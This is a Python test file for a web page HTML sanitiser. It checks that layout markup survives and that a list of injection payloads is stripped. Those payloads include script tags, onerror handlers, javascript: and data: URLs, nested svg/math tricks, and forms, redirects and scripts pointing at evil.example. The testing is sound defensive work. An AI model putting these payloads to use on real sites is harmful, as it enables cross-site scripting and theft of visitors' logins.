"""What a page may hold when it is shown on our own origin."""

import pytest

from polyreel.core.pages import safe_html


@pytest.mark.parametrize(
    "html",
    [
        '<div class="row g-2" style="display:flex;color:red"><p>Hi <b>there</b>.</p></div>',
        "<h2>Terms</h2><ul><li>one</li></ul><table><tbody><tr><td>x</td></tr></tbody></table>",
        '<img src="https://pics.example/a.png" alt="A" width="10">',
        "<p>1 &lt; 2 &amp; 3</p>",
        "",
    ],
)
def test_layout_stays_as_it_was_written(html):
    assert safe_html(html) == html


def test_links_stay_and_tell_others_nothing():
    found = safe_html('<a href="/p/terms/" target="_blank">Terms</a>')
    assert found == '<a href="/p/terms/" target="_blank" rel="noopener noreferrer">Terms</a>'


@pytest.mark.parametrize(
    ("html", "gone"),
    [
        ("<script>alert(1)</script>", "alert"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil"),
        ("<img src=x onerror=alert(1)>", "onerror"),
        ("<svg><script>alert(1)</script></svg>", "alert"),
        ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "onerror"),
        ("<a href='java&#10;script:alert(1)'>x</a>", "script"),
        ("<a href='data:text/html,<script>alert(1)</script>'>x</a>", "data:"),
        ("<iframe src='https://evil.example'></iframe>", "iframe"),
        ("<object data=x></object><embed src=x>", "data"),
        ("<form action='https://evil.example'><input name=password></form>", "password"),
        ("<base href='https://evil.example/'>", "evil"),
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>", "evil"),
        ("<link rel=stylesheet href='https://evil.example/x.css'>", "evil"),
        ("<style>* { display: none }</style>", "display"),
        ("<div style='position:fixed;inset:0;z-index:9'>x</div>", "position"),
        ("<div id=main name=x>x</div>", "main"),
        ("<p><!-- <script>alert(1)</script> -->x</p>", "alert"),
    ],
)
def test_what_could_run_send_or_cover_is_left_out(html, gone):
    assert gone not in safe_html(html)


def test_a_long_nested_page_is_done_in_no_time():
    assert safe_html("<div>" * 10_000).count("<div>") > 0
